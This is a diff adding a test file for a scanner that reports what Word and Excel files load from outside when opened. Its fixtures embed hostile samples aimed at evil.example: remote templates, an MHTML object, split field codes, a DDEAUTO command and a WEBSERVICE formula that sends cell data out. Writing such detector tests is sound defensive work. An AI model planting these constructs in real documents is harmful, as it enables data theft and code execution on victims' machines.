@@ -1,0 +1,121 @@
+import { describe, expect, test } from "vitest";
+import { officeFileOf } from "@/tests/support/office-files";
+import { readZippedOffice } from "./office-content";
+
+const officeTypes = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
+const relations = (type: string, target: string, mode = "External") =>
+  `<Relationships><Relationship Id="rId1" Type="${officeTypes}/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`;
+const word = (body: string) => `<w:document xmlns:w="urn:w"><w:body>${body}</w:body></w:document>`;
+const run = (text: string) => `<w:r><w:instrText>${text}</w:instrText></w:r>`;
+const mark = (kind: string) => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`;
+
+async function loadsOf(name: string, content: string | Buffer): Promise<string[] | undefined> {
+  const bytes = await officeFileOf({ "word/document.xml": "<x/>", [name]: content });
+  return (await readZippedOffice(bytes))?.loadsFrom;
+}
+
+describe("what a Word or Excel file loads when it is opened", () => {
+  test.each([
+    [
+      "a remote template",
+      "word/_rels/settings.xml.rels",
+      relations("attachedTemplate", "https://evil.example/t.dotm"),
+      "evil.example",
+    ],
+    [
+      "a template on a share",
+      "word/_rels/settings.xml.rels",
+      relations("attachedTemplate", "file:///\\\\10.0.0.7\\t.dotm"),
+      "10.0.0.7",
+    ],
+    [
+      "a picture",
+      "word/_rels/header1.xml.rels",
+      relations("image", "http://evil.example:8080/1.png"),
+      "evil.example:8080",
+    ],
+    [
+      "an object",
+      "word/_rels/document.xml.rels",
+      relations("oleObject", "mhtml:http://evil.example/x!y"),
+      "evil.example",
+    ],
+    [
+      "another workbook",
+      "xl/externalLinks/_rels/externalLink1.xml.rels",
+      relations("externalLinkPath", "Book2.xlsx"),
+      "Book2.xlsx",
+    ],
+    [
+      "a query",
+      "xl/connections.xml",
+      '<connections><connection><webPr url="https://evil.example/q"/></connection></connections>',
+      "evil.example",
+    ],
+    [
+      "a field of one element",
+      "word/document.xml",
+      word('<w:fldSimple w:instr=" INCLUDEPICTURE &quot;https://evil.example/p&quot; "/>'),
+      "evil.example",
+    ],
+    [
+      "a field cut into pieces",
+      "word/document.xml",
+      word(`${mark("begin")}${run(" INCLUDETE")}${run('XT "ht')}${run('tp://evil.example/a"')}${mark("end")}`),
+      "evil.example",
+    ],
+    [
+      "a field within a hyperlink",
+      "word/document.xml",
+      word(
+        `${mark("begin")}${run("HYPERLINK ")}${mark("begin")}${run('INCLUDETEXT "\\\\\\\\evil.example\\\\a"')}${mark("end")}${mark("end")}`,
+      ),
+      "evil.example",
+    ],
+    [
+      "a command",
+      "word/document.xml",
+      word(`${mark("begin")}${run("DDEAUTO cmd calc")}${mark("end")}`),
+      "DDEAUTO cmd calc",
+    ],
+    [
+      "a formula",
+      "xl/worksheets/sheet1.xml",
+      '<worksheet><f>_xlfn.WEBSERVICE("https://evil.example/"&amp;A1)</f></worksheet>',
+      "evil.example",
+    ],
+    ["a document type", "word/styles.xml", '<!DOCTYPE x SYSTEM "https://evil.example/x.dtd"><x/>', "<!DOCTYPE>"],
+    [
+      "UTF-16",
+      "word/_rels/settings.xml.rels",
+      Buffer.from(`\uFEFF${relations("attachedTemplate", "https://evil.example/t")}`, "utf16le"),
+      "evil.example",
+    ],
+  ])("%s", async (_, name, content, host) => {
+    expect(await loadsOf(name, content)).toEqual([host]);
+  });
+
+  test("hyperlinks, parts of the file itself, dates and page numbers load nothing", async () => {
+    for (const [name, content] of [
+      ["word/_rels/document.xml.rels", relations("hyperlink", "https://example.com/")],
+      ["word/_rels/document.xml.rels", relations("image", "media/image1.png", "Internal")],
+      ["word/document.xml", word(`${mark("begin")}${run('HYPERLINK "https://example.com"')}${mark("end")}`)],
+      [
+        "word/document.xml",
+        word(`${mark("begin")}${run('DATE \\@ "dd/MM/yyyy HH:mm" \\* MERGEFORMAT')}${mark("end")}`),
+      ],
+      [
+        "xl/worksheets/sheet1.xml",
+        '<worksheet><f>HYPERLINK("https://example.com","there")</f><f>SUM(A1:B2)/2</f></worksheet>',
+      ],
+    ] as const)
+      expect(await loadsOf(name, content), content).toEqual([]);
+  });
+
+  test("what is not XML is refused, as Office could not open it either", async () => {
+    await expect(loadsOf("word/styles.xml", "<a><b></a>")).rejects.toMatchObject({ reason: "attachment_damaged" });
+    await expect(loadsOf("word/styles.xml", Buffer.from([0x3c, 0xff, 0x3e]))).rejects.toMatchObject({
+      code: "invalid",
+    });
+  });
+});
